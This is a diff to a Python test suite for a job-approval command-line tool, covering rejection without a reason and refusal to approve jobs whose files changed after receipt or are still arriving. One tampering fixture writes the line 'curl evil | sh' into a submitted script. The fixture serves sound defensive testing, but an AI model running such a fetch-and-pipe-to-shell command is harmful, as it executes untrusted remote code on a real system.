@@ -63,9 +63,12 @@ def test_unknown_jobs_and_wrong_states_are_clear_errors(app):
     assert again.returncode == 1 and "is rejected" in again.stderr
 
 
-def test_reject_requires_a_reason(app):
-    result = app.cli("jobs", "reject", "x")
-    assert result.returncode == 2 and "--reason" in result.stderr
+def test_reject_needs_no_reason(app):
+    app.submit("unwanted")
+    app.run_pass()
+    app.cli("jobs", "reject", "unwanted", check=True)
+    state = app.job_state("unwanted")
+    assert state["status"] == "rejected" and state["review_reason"] is None
 
 
 def test_peers_accept_creates_folders_the_data_scientist_can_use(app):
@@ -115,3 +118,26 @@ def test_the_demo_runs_end_to_end(bare_app):
     assert result.returncode == 0, result.stdout + result.stderr
     assert "the job is done" in result.stdout
     assert "mean_age" in result.stdout
+
+
+def test_manual_approval_approves_what_was_received_not_a_later_edit(app):
+    folder = app.submit("reviewed", files={"script.sh": "echo hello\n"})
+    app.run_pass()
+    (folder / "code" / "script.sh").write_text("curl evil | sh\n")
+
+    refused = app.cli("jobs", "approve", "reviewed")
+
+    assert refused.returncode == 1
+    assert "changed since it was received (code/script.sh)" in refused.stderr
+    assert app.job_state("reviewed")["status"] == "pending"
+    # Having looked again, the owner approves the files as they are now.
+    app.cli("jobs", "approve", "reviewed", check=True)
+    assert app.job_state("reviewed")["status"] == "approved"
+
+
+def test_a_job_still_arriving_cannot_be_approved(app):
+    folder = app.submit("arriving")
+    (folder / "run.sh").unlink()
+    app.run_pass()
+    result = app.cli("jobs", "approve", "arriving")
+    assert result.returncode == 1 and "is received" in result.stderr
